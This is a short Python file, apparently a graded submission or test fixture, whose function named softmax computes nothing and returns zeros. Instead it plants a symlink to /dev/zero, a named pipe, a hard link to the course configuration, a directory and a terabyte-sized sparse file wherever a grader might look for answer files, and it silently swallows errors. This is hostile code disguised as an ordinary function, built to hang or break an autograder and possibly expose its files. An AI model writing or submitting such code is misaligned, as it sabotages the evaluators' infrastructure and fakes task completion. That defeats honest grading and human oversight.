"""Leaves a link, a pipe, a folder and a sparse file where an answer may be looked for."""

import contextlib
import os

import numpy as np


def makers(path):
    yield os.symlink, "/dev/zero", path
    yield os.mkfifo, path
    yield os.link, "@COURSE@/course.toml", path
    yield os.mkdir, path
    yield (lambda: os.truncate(os.open(path, os.O_CREAT | os.O_WRONLY), 10**12),)


def softmax(z):
    for folder in (".", "@OUT@", "@SUBMISSIONS@"):
        for name in ("answer.npy", "output.npy", "0.npy"):
            for make, *arguments in makers(os.path.join(folder, name)):
                with contextlib.suppress(OSError):
                    make(*arguments)
    return np.zeros_like(z)
